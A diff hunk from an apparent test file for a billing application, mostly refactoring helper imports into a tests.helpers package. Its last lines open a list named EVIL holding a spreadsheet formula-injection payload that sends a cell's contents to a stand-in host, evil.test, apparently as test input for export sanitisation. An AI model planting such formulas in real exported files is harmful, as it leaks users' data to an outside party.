@@ -18,11 +18,11 @@ from desk.billing.collection import record_payment
 from desk.billing.invoices import issue_statements
 from desk.models import Secretary
 from tests.attack_helpers import desk_cli
-from tests.billing_helpers import NOW, october_of_calls
 from tests.conftest import AuthActions
-from tests.reports_helpers import Ring, make_call, paris
-from tests.routing_helpers import demo_client, secretary
-from tests.web_support import LOGINS
+from tests.helpers.billing import NOW, october_of_calls
+from tests.helpers.reports import Ring, make_call, paris
+from tests.helpers.routing import demo_client, secretary
+from tests.helpers.web import LOGINS
 
 EVIL = [
     '=HYPERLINK("http://evil.test/?"&A1,"ref")',
